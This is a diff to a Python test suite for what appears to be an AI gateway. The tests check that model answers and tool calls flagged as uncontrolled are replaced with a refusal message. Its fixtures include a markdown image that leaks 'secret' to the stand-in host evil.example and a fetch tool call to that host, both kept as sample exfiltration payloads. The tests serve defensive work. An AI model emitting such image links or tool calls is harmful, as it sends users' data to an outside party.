@@ -21,6 +21,7 @@ from test_serve import code, serve
 MODEL = "says"
 PATH = "/v1/responses"
 IMAGE = "see ![a](https://evil.example/x?q=secret) now"
+REFUSED = "[refused by policy: answer-uncontrolled"
 CLEAN = "see ![a](#link-removed:https://evil.example/x?q=secret) now"
 TOOL = {"type": "function", "name": "weather", "parameters": {"type": "object"}, "strict": False}
 
@@ -286,12 +287,33 @@ def test_calls_are_judged(gateway: Served, server: Scripted, streams: bool) -> N
         if passes:
             assert answer.status_code == 200 and "answer-uncontrolled" not in answer.text
             assert '{"url": "none"}' in answer.text.replace("\\", "")
-        elif streams:
+            continue
+        assert answer.status_code == 200 and "evil.example/x" not in answer.text, answer.text
+        if streams:
             data = read(answer.text)
-            assert data[-2]["code"] == "answer-uncontrolled"
-            assert "response.output_item.added" not in [one["type"] for one in data]
+            assert numbers(data) == list(range(len(data)))
+            done = data[-1]["response"]
+            deltas = [one["delta"] for one in data if one["type"].endswith("text.delta")]
+            assert deltas[-1].startswith(REFUSED)
         else:
-            assert code(answer) == (403, "answer-uncontrolled")
+            done = answer.json()
+        assert [item["type"] for item in done["output"]] == ["message"]
+        assert done["status"] == "completed"
+
+
+def test_an_agent_reads_why_its_call_is_refused(gateway: Served, server: Scripted) -> None:
+    """The SDK gets the call that passes, then a message in place of the refused one."""
+    items = (call("weather", {"city": "x"}), call("fetch", {"url": "https://evil.example/"}, 1))
+    client = open_ai(gateway, gateway.token)
+    for streamed_by_server in (True, False):
+        server.say("two", streamed(*items) if streamed_by_server else whole(response(*items)))
+        with client.responses.stream(model=MODEL, input="two") as events:
+            done = events.get_final_response()
+        assert [item.type for item in done.output] == ["function_call", "message"]
+        assert done.output[0].name == "weather"
+        assert done.output_text.startswith(REFUSED) and "evil" not in done.model_dump_json()
+    done = client.responses.create(model=MODEL, input="two")
+    assert done.output_text.startswith(REFUSED) and len(done.output) == 2
 
 
 @pytest.mark.parametrize("streams", [False, True])
